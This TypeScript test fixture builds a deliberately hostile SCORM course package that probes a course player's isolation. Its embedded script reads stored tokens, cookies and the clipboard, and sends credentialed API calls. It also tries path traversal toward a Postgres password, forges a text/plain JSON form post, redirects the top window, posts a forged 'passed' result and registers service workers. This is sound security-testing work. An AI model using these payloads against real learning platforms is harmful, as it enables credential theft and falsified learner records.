// A course that tries to get at what is not its own: from its frame in the player, and from a window it opens itself.
import { makeZip, manifestOf } from '../support/make-zip.ts'

/** What was gained, by trick; nothing where it failed. */
export type Loot = Record<string, string>

type Tricks = Record<string, () => unknown>

// These functions run in the page of the course, which holds their source: they use each other, and nothing else of this
// file.

/** The page of the player, also when the course is in a window of its own. */
function ownPlayer(): Window {
  return (globalThis as { parent: Window }).parent === globalThis.window
    ? (window.opener as Window)
    : window.parent
}

function windowTricks(site: string): Tricks {
  const own = ownPlayer()
  const top = own.top as Window
  return {
    'the window that opened the player': () => own.opener ?? top.opener,
    'the page of that window': () => top.opener?.document.title,
    'leading the whole window elsewhere': () => {
      if (window.top === window) return ''
      ;(window.top as Window).location.href = `${site}/stolen`
      // Nothing is thrown; whether it was led is seen from outside.
      return ''
    },
    'the product in a window of its own': () =>
      opened(`${site}/`, '_blank', (other) => other.document.title || String(other.localStorage.length)),
    'a window of the product by its name': () =>
      opened('', 'player', (other) => (other.location.href === 'about:blank' ? '' : other.location.href)),
    'a name that two origins share': () => {
      document.domain = 'localhost'
      return top.opener?.document.title
    },
    'an address that is not its own': () => {
      history.pushState({}, '', `${site}/login`)
      return location.href
    },
    'a result by message': () => {
      for (const target of [own, top, window.top as Window])
        target.postMessage({ type: 'commit', sco: 'one', cmi: { lessonStatus: 'passed' } }, '*')
      return ''
    },
  }
}

function storageTricks(): Tricks {
  return {
    'a token in the storage': () => localStorage.getItem('user'),
    'a token in the storage of the session': () => sessionStorage.getItem('user'),
    'a token in the storage of the player': () => ownPlayer().localStorage.getItem('user'),
    cookies: () => document.cookie,
    'a worker that stays': () => navigator.serviceWorker.register('worker.js').then(() => 'registered'),
    'a worker for the whole origin': () =>
      navigator.serviceWorker.register('worker.js', { scope: '/' }).then(() => 'registered'),
    'what is on the clipboard': () => navigator.clipboard.readText(),
  }
}

function requestTricks(site: string): Tricks {
  const ticket = location.pathname.split('/')[2]
  const dashboard = `${site}/api/Dashboard/LearnerDashboard`
  return {
    'a call of the product': () => reads(dashboard),
    'a call with all that the browser knows': () => reads(dashboard, { credentials: 'include' }),
    'a call that asks first': () => reads(dashboard, { headers: { authorization: 'Bearer stolen' } }),
    'a call with its ticket for a token': () =>
      reads(dashboard, { headers: { authorization: `Bearer ${ticket}` } }),
    'a call by XMLHttpRequest': () =>
      new Promise((resolve, fail) => {
        const request = new XMLHttpRequest()
        request.open('GET', `${site}/api/Account/GetAccount`)
        request.withCredentials = true
        request.onload = () => resolve(request.responseText)
        request.onerror = fail
        request.send()
      }),
    'a stream of the product': () =>
      new Promise((resolve, fail) => {
        const stream = new EventSource(`${site}/api/openapi.json`)
        stream.onopen = resolve
        stream.onerror = fail
      }),
    'files beside its own': () => reads('..%2f..%2f..%2fpackages%2findex.html').then(unlessRefused),
    'the settings of the server': () => reads('%2e%2e/%2e%2e/postgres/password').then(unlessRefused),
    "another learner's window": () => reads(`/playcourse/${'A'.repeat(43)}/state`).then(unlessRefused),
  }
}

function elementTricks(site: string): Tricks {
  return {
    'a form that posts to the product': () =>
      framed((frame) => {
        const form = document.createElement('form')
        Object.assign(form, { method: 'POST', enctype: 'text/plain', target: frame.name })
        form.action = `${site}/api/ContactForm/Submit`
        const field = document.createElement('input')
        Object.assign(field, { name: '{"firstName":"Forged","x":"', value: '"}' })
        form.append(field)
        document.body.append(form)
        setTimeout(() => form.submit())
      }),
    'the product in a frame': () => framed((frame) => (frame.src = `${site}/`)),
    'the page of that window, from a frame without a sandbox': () =>
      framed((frame) => {
        frame.srcdoc = `<script>
          const player = top.opener ? top.opener.top : top
          document.title = player.opener.document.title
        </script>`
      }),
    'a picture of the product': () => loaded(Object.assign(new Image(), { src: `${site}/favicon.png` })),
    'a script of the product': () =>
      loaded(Object.assign(document.createElement('script'), { src: `${site}/api/openapi.json` })),
  }
}

function reads(url: string, how: RequestInit = {}): Promise<string> {
  return fetch(url, how).then((answer) => answer.text())
}

/** Answers the title of what a frame has loaded. */
function framed(fill: (frame: HTMLIFrameElement) => void): Promise<string> {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.name = `frame${Math.random()}`
    frame.onload = () => {
      let found = ''
      try {
        const isBlank = frame.contentWindow?.location.href === 'about:blank'
        found = isBlank ? '' : String(frame.contentDocument?.title)
      } catch {
        // A page of another origin cannot be read.
      }
      resolve(found)
    }
    fill(frame)
    document.body.append(frame)
  })
}

function loaded(element: HTMLImageElement | HTMLScriptElement): Promise<string> {
  return new Promise((resolve) => {
    element.onload = () => resolve('loaded')
    element.onerror = () => resolve('')
    document.body.append(element)
  })
}

async function opened(url: string, name: string, look: (other: Window) => string): Promise<string> {
  const other = window.open(url, name)
  if (!other) return ''
  await new Promise((resolve) => setTimeout(resolve, 1_000))
  try {
    return look(other)
  } finally {
    other.close()
  }
}

/** Refusals are answered in the envelope of the product, or as a page that says so. */
function unlessRefused(text: string): string {
  return /"success":false|<h1>This window has ended/.test(text) ? '' : text
}

async function tryEverything(site: string): Promise<Loot> {
  const tricks = { ...requestTricks(site), ...elementTricks(site), ...windowTricks(site), ...storageTricks() }
  const loot: Loot = {}
  for (const [name, trick] of Object.entries(tricks)) {
    const waited = new Promise((resolve) => setTimeout(resolve, 2_500))
    const gained = await Promise.race([Promise.resolve().then(trick), waited]).catch(() => undefined)
    loot[name] = gained ? String(gained) : ''
  }
  return loot
}

const source = [
  ownPlayer,
  windowTricks,
  storageTricks,
  requestTricks,
  elementTricks,
  reads,
  framed,
  loaded,
  opened,
  unlessRefused,
  tryEverything,
]
  .map(String)
  .join('\n')
  .replaceAll('</', '<\\/')

const page = (site: string) => `<!doctype html>
<html lang="en"><title>Hostile</title><p>Nothing to see here.</p>
<script>
  const api = parent.API
  if (api) { api.LMSInitialize(''); api.LMSSetValue('cmi.core.lesson_status', 'incomplete') }
  ${source}
  var loot = tryEverything(${JSON.stringify(site)})
</script>`

export function hostileCourse(site: string): Buffer {
  return makeZip([
    { name: 'imsmanifest.xml', data: manifestOf() },
    { name: 'index.html', data: page(site) },
    { name: 'worker.js', data: 'addEventListener("fetch", () => {})' },
  ])
}

/** Does nothing by itself, and has a script that leads the window it runs in elsewhere. */
export function leadingCourse(): Buffer {
  return makeZip([
    { name: 'imsmanifest.xml', data: manifestOf() },
    {
      name: 'index.html',
      data: '<!doctype html><html lang="en"><title>Quiet</title><p>Nothing to see here.</p>',
    },
    { name: 'lead.js', data: 'location.href = document.currentScript.src.split("?")[1]' },
  ])
}
